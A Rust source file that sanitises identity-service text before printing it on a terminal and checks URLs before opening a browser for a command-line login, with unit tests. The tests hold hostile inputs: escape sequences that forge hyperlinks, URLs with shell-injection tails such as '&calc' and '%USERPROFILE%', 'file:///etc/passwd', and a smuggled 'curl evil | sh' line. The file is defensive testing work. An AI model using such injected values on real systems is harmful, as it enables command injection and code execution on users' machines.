//! Presentation helpers for command-line logins.
//!
//! Everything the identity service sends that ends up on a terminal (the verification URI,
//! the user code, workspace names, roles and ids) goes through [`sanitize_terminal_text`],
//! so a hostile response cannot move the cursor, clear the screen, retitle the window or
//! forge a hyperlink. [`open_browser`] opens only `https` URLs (`http` only on a loopback
//! host) and never through a shell.

use super::types::{DeviceCodeIssuance, Workspace};
use crate::error::Error;

/// The sign-in instructions: the URI, the code and the code's lifetime in whole minutes.
///
/// The URI and the code are sanitised ([`sanitize_terminal_text`]).
pub fn instructions(issuance: &DeviceCodeIssuance) -> String {
    [
        String::new(),
        "  To sign in, open your browser and visit:".to_owned(),
        String::new(),
        format!("    {}", sanitize_terminal_text(&issuance.verification_uri)),
        String::new(),
        "  Then enter this code:".to_owned(),
        String::new(),
        format!("    {}", sanitize_terminal_text(&issuance.user_code)),
        String::new(),
        format!(
            "  This code expires in {} minutes.",
            issuance.expires_in.as_secs() / 60
        ),
        String::new(),
    ]
    .join("\n")
}

/// An OSC 8 terminal hyperlink to `url` labelled `Open browser to approve`.
///
/// The URL is sanitised ([`sanitize_terminal_text`]), so it cannot end the escape sequence
/// early or start another one.
pub fn terminal_link(url: &str) -> String {
    let url = sanitize_terminal_text(url);
    format!("\x1b]8;;{url}\x07Open browser to approve\x1b]8;;\x07")
}

/// A numbered list of workspaces (name or id, role, and the id under a name), each value
/// sanitised ([`sanitize_terminal_text`]).
pub fn workspace_list(workspaces: &[Workspace]) -> String {
    let mut lines = vec![
        String::new(),
        "  Available workspaces:".to_owned(),
        String::new(),
    ];
    for (i, w) in workspaces.iter().enumerate() {
        let label = sanitize_terminal_text(w.name.as_deref().unwrap_or(&w.workspace_id));
        let role = w
            .role
            .as_deref()
            .map(|r| format!(" ({})", sanitize_terminal_text(r)))
            .unwrap_or_default();
        lines.push(format!("    {}. {label}{role}", i + 1));
        if w.name.is_some() {
            lines.push(format!(
                "       {}",
                sanitize_terminal_text(&w.workspace_id)
            ));
        }
    }
    lines.push(String::new());
    lines.join("\n")
}

/// Server-provided text made safe to print on a terminal.
///
/// Removes escape sequences whole (CSI `ESC [ … final`, the string sequences OSC, DCS, SOS,
/// PM and APC up to their terminator, two-character `ESC x` sequences, and their 8-bit C1
/// forms), then every other control character (C0 including CR, LF and TAB, DEL, C1) and
/// the Unicode bidirectional controls that can make text read differently from its bytes.
pub fn sanitize_terminal_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let sequence = match c {
            '\x1b' => match chars.next() {
                Some('[') => Sequence::Csi,
                Some(']' | 'P' | 'X' | '^' | '_') => Sequence::Str,
                _ => Sequence::None,
            },
            '\u{9b}' => Sequence::Csi,
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => Sequence::Str,
            c if c.is_control() || is_bidi_control(c) => Sequence::None,
            c => {
                out.push(c);
                continue;
            }
        };
        match sequence {
            Sequence::None => {}
            // Parameter and intermediate bytes, then one final byte (0x40-0x7E).
            Sequence::Csi => {
                for c in chars.by_ref() {
                    if ('\x40'..='\x7e').contains(&c) || !('\x20'..='\x3f').contains(&c) {
                        break;
                    }
                }
            }
            // Up to BEL, ST (ESC \ or U+009C), or the end of the text.
            Sequence::Str => {
                while let Some(c) = chars.next() {
                    if c == '\x07' || c == '\u{9c}' {
                        break;
                    }
                    if c == '\x1b' {
                        if chars.peek() == Some(&'\\') {
                            chars.next();
                        }
                        break;
                    }
                }
            }
        }
    }
    out
}

/// What an escape introducer starts.
enum Sequence {
    /// Nothing more to skip.
    None,
    /// A control sequence: parameters up to a final byte.
    Csi,
    /// A control string: anything up to a string terminator.
    Str,
}

/// Unicode bidirectional formatting controls (embeddings, overrides, isolates, marks).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    )
}

/// Checks that `url` may be handed to the system's URL opener.
///
/// Accepted: an absolute `https` URL with a host (or `http` when the host is `localhost`, a
/// `127.0.0.0/8` address or `[::1]`), without user information (`https://id.example@evil/`
/// is refused), made only of the characters RFC 3986 allows, every `%` starting a
/// two-digit escape. Anything else (other schemes, spaces, quotes, `^`, `|`, `%VAR%`,
/// control characters, non-ASCII) is a [`Config`](crate::ErrorKind::Config) error.
pub fn check_browser_url(url: &str) -> Result<(), Error> {
    let refuse = |why: &str| {
        Err(Error::config(format!(
            "refusing to open this URL in a browser: {why}"
        )))
    };
    let bytes = url.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        let allowed = b.is_ascii_alphanumeric() || b"-._~:/?#[]@!$&'()*+,;=%".contains(&b);
        if !allowed {
            return refuse("it contains characters a URL may not contain");
        }
        if b == b'%'
            && !(bytes.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && bytes.get(i + 2).is_some_and(u8::is_ascii_hexdigit))
        {
            return refuse("it contains a `%` that is not a percent-escape");
        }
    }
    let Ok(uri) = url.parse::<http::Uri>() else {
        return refuse("it is not an absolute URL");
    };
    let (Some(scheme), Some(authority)) = (uri.scheme_str(), uri.authority()) else {
        return refuse("it is not an absolute URL");
    };
    if authority.as_str().contains('@') {
        return refuse("it contains user information");
    }
    let host = authority.host();
    if host.is_empty() {
        return refuse("it has no host");
    }
    if scheme.eq_ignore_ascii_case("https") {
        return Ok(());
    }
    if scheme.eq_ignore_ascii_case("http") {
        return if is_loopback_host(host) {
            Ok(())
        } else {
            refuse("`http` is opened only for loopback hosts; use `https`")
        };
    }
    refuse("only `https` URLs (and `http` on loopback hosts) are opened")
}

/// `localhost`, `127.0.0.0/8` or `[::1]`.
fn is_loopback_host(host: &str) -> bool {
    if host.eq_ignore_ascii_case("localhost") {
        return true;
    }
    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return v6
            .parse::<std::net::Ipv6Addr>()
            .is_ok_and(|a| a.is_loopback());
    }
    host.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|a| a.is_loopback())
}

/// Opens `url` in the user's browser (`open`, `rundll32 url.dll,FileProtocolHandler`,
/// `xdg-open`; never through a shell).
///
/// The URL is checked first ([`check_browser_url`]); a refused URL is an error and nothing
/// is spawned. Otherwise returns whether the opener exited successfully: `false` on other
/// platforms and on any spawn failure. Never panics. This spawns a process, so it exists
/// only where processes do (on `wasm32` it checks the URL and returns `false`).
pub fn open_browser(url: &str) -> Result<bool, Error> {
    open_browser_on(std::env::consts::OS, url)
}

/// [`open_browser`] for an explicit OS name (`std::env::consts::OS` values); `Ok(false)` for
/// platforms without a known opener.
pub fn open_browser_on(os: &str, url: &str) -> Result<bool, Error> {
    let Some((program, args)) = browser_command(os, url)? else {
        return Ok(false);
    };
    #[cfg(target_arch = "wasm32")]
    {
        let _ = (program, args);
        Ok(false)
    }
    #[cfg(not(target_arch = "wasm32"))]
    {
        Ok(std::process::Command::new(program)
            .args(args)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .map(|s| s.success())
            .unwrap_or(false))
    }
}

/// The opener command for an OS name (`std::env::consts::OS`): `Ok(None)` when the OS has
/// no known opener, an error when the URL is refused ([`check_browser_url`]).
///
/// The URL is one argument of a program that is not a shell: `open` on macOS,
/// `rundll32 url.dll,FileProtocolHandler` on Windows (`cmd /c start` would read `&`, `|`,
/// `^` and `%VAR%` in the URL as shell syntax), `xdg-open` on Linux.
pub fn browser_command(os: &str, url: &str) -> Result<Option<(&'static str, Vec<String>)>, Error> {
    check_browser_url(url)?;
    Ok(match os {
        "macos" => Some(("open", vec![url.to_owned()])),
        "windows" => Some((
            "rundll32",
            vec!["url.dll,FileProtocolHandler".to_owned(), url.to_owned()],
        )),
        "linux" => Some(("xdg-open", vec![url.to_owned()])),
        _ => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::credentials::Secret;
    use std::time::Duration;

    fn issuance() -> DeviceCodeIssuance {
        DeviceCodeIssuance {
            device_code: Secret::new("dc"),
            user_code: "ABCD-EFGH".into(),
            verification_uri: "https://id.example/device".into(),
            verification_uri_complete: Some("https://id.example/device?code=ABCD-EFGH".into()),
            expires_in: Duration::from_secs(900),
            interval: None,
        }
    }

    #[test]
    fn instructions_text_exact() {
        let text = instructions(&issuance());
        assert_eq!(
            text,
            "\n  To sign in, open your browser and visit:\n\n    https://id.example/device\n\n  Then enter this code:\n\n    ABCD-EFGH\n\n  This code expires in 15 minutes.\n"
        );
    }

    #[test]
    fn osc8_link() {
        let url = issuance().verification_uri_complete.unwrap();
        let link = terminal_link(&url);
        assert_eq!(
            link,
            format!("\x1b]8;;{url}\x07Open browser to approve\x1b]8;;\x07")
        );
        assert!(link.contains("https://id.example/device?code=ABCD-EFGH"));
    }

    #[test]
    fn workspace_list_lines() {
        let list = workspace_list(&[
            Workspace {
                workspace_id: "ws-1".into(),
                role: Some("admin".into()),
                name: Some("Org One".into()),
            },
            Workspace {
                workspace_id: "ws-2".into(),
                role: None,
                name: Some("Org Two".into()),
            },
        ]);
        assert_eq!(
            list,
            "\n  Available workspaces:\n\n    1. Org One (admin)\n       ws-1\n    2. Org Two\n       ws-2\n"
        );
        assert!(workspace_list(&[Workspace::new("ws-no-name")]).contains("\n    1. ws-no-name\n"));
    }

    #[test]
    fn browser_commands() {
        let url = "https://id.example/device?code=A&b=%41";
        let cmd = |os| browser_command(os, url).unwrap();
        assert_eq!(cmd("linux"), Some(("xdg-open", vec![url.to_owned()])));
        assert_eq!(cmd("macos"), Some(("open", vec![url.to_owned()])));
        assert_eq!(
            cmd("windows"),
            Some((
                "rundll32",
                vec!["url.dll,FileProtocolHandler".to_owned(), url.to_owned()]
            )),
            "no shell on Windows: cmd would run `&...` as a command"
        );
        assert_eq!(cmd("freebsd"), None);
        assert_eq!(cmd("wasi"), None);
        assert!(!open_browser_on("plan9", "https://id.example").unwrap());
        assert!(!open_browser_on("", "https://id.example").unwrap());
    }

    #[test]
    fn only_https_and_loopback_http_urls_are_opened() {
        for ok in [
            "https://id.example/device",
            "HTTPS://id.example:8443/device?code=AB-CD&x=1#f",
            "https://id.example/a%20b",
            "http://localhost:8080/device",
            "http://LOCALHOST/device",
            "http://127.0.0.1:9/d",
            "http://127.1.2.3/d",
            "http://[::1]:9/d",
        ] {
            assert!(check_browser_url(ok).is_ok(), "{ok}");
        }
        for bad in [
            "",
            "http://id.example/device",
            "http://127.0.0.1.evil.example/d",
            "http://localhost.evil.example/d",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "ms-settings:",
            "https://",
            "https:///path",
            "https://id.example@evil.example/",
            "https://id.example/\"&calc",
            "https://id.example/ &calc",
            "https://id.example/^&calc",
            "https://id.example/%USERPROFILE%",
            "https://id.example/a|b",
            "https://id.example/\u{1b}[2J",
            "https://id.example/\n",
            "https://id.example/é",
            "-https://id.example/",
        ] {
            let e = check_browser_url(bad).expect_err(bad);
            assert_eq!(e.kind(), crate::error::ErrorKind::Config, "{bad}");
            assert!(e.message().contains("browser"), "{}", e.message());
            for os in ["linux", "macos", "windows"] {
                assert!(browser_command(os, bad).is_err(), "{os} {bad}");
                assert!(open_browser_on(os, bad).is_err(), "{os} {bad}");
            }
        }
    }

    #[test]
    fn terminal_text_loses_control_characters_and_escape_sequences() {
        let hostile = "AB\x1b[2J\x1b[1;31mCD\x1b]8;;https://evil.example\x07x\x1b]8;;\x1b\\-\u{9b}31mEF\u{9d}0;title\u{9c}GH\x1bc\u{202e}\r\n\t\x00\x7f\u{85}";
        assert_eq!(sanitize_terminal_text(hostile), "ABCDx-EFGH");
        assert_eq!(
            sanitize_terminal_text("Org Ünïcode — fine"),
            "Org Ünïcode — fine"
        );
        assert_eq!(sanitize_terminal_text("trailing\x1b"), "trailing");
        assert_eq!(sanitize_terminal_text("open\x1b]8;;x"), "open");
    }

    #[test]
    fn server_text_is_sanitised_before_printing() {
        let mut hostile = issuance();
        hostile.verification_uri = "https://id.example/device\x1b[2J\x1b]0;pwned\x07".into();
        hostile.user_code = "ABCD\r\n  Then run: curl evil | sh\x1b[8m".into();
        let text = instructions(&hostile);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{text:?}"
        );
        assert!(
            text.contains("\n    https://id.example/device\n"),
            "{text:?}"
        );
        assert!(
            text.contains("\n    ABCD  Then run: curl evil | sh\n"),
            "{text:?}"
        );

        let link = terminal_link("https://id.example/d\x07\x1b]8;;https://evil.example\x07");
        assert_eq!(
            link,
            "\x1b]8;;https://id.example/d\x07Open browser to approve\x1b]8;;\x07"
        );

        let list = workspace_list(&[Workspace {
            workspace_id: "ws-1\x1b[1A".into(),
            role: Some("admin\x1b[31m".into()),
            name: Some("Org\x1b]0;x\x07 One\r".into()),
        }]);
        assert_eq!(
            list,
            "\n  Available workspaces:\n\n    1. Org One (admin)\n       ws-1\n"
        );
    }
}
